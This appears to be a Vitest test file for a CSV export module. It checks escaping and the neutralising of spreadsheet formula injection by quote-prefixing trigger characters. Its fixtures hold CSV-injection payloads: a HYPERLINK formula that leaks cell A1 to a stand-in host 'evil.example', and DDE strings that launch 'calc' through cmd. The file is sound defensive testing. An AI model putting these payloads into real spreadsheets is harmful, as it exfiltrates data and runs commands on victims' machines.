import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvRow } from "../../app/exports/csv";

describe("CSV cells", () => {
  it.each([
    ["plain", "plain"],
    ['say "hi", friend', '"say ""hi"", friend"'],
    ["two\nlines", '"two\nlines"'],
    [null, ""],
    [undefined, ""],
    [42, "42"],
    [{ a: 1 }, '"{""a"":1}"'],
    // A quote or space first is not a trigger: the text is left as it is.
    ["'=already quoted", "'=already quoted"],
    [" =1+1", " =1+1"],
  ])("GIVEN %j WHEN written as a cell THEN it is %s", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  // OWASP (CSV injection): a cell starting with = + - @, tab or CR is prefixed with a single
  // quote, whatever follows. Issue 8, finding 12: "-1+" and "+1 " used to pass as numbers.
  it.each([
    [
      '-1+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `"'-1+HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
    ],
    ['+1+HYPERLINK("http://evil.example")', `"'+1+HYPERLINK(""http://evil.example"")"`],
    ["-(1)+cmd|' /C calc'!A0", "'-(1)+cmd|' /C calc'!A0"],
    ["-.5+1", "'-.5+1"],
    ["+1 555", "'+1 555"],
    ["+1 555 0101", "'+1 555 0101"],
    ["-0", "'-0"],
    ["-12.50", "'-12.50"],
    ["-cmd", "'-cmd"],
    ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
    ["=", "'="],
    ["-", "'-"],
  ])("GIVEN %j, a formula trigger first WHEN written THEN it is neutralised as %s", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it("GIVEN hostile and ordinary cells WHEN a row is parsed back (RFC 4180) THEN every value survives, quote-prefixed only where it was a trigger", () => {
    const cells = ['-1+HYPERLINK("http://evil.example/?leak="&A1,"Click")', "a,b", 'q"q', "\r=2", "+1 555"];

    const [parsed] = parseCsv(csvRow(cells)) as string[][];

    expect(parsed).toEqual([
      '\'-1+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "a,b",
      'q"q',
      "'\r=2",
      "'+1 555",
    ]);
  });
});
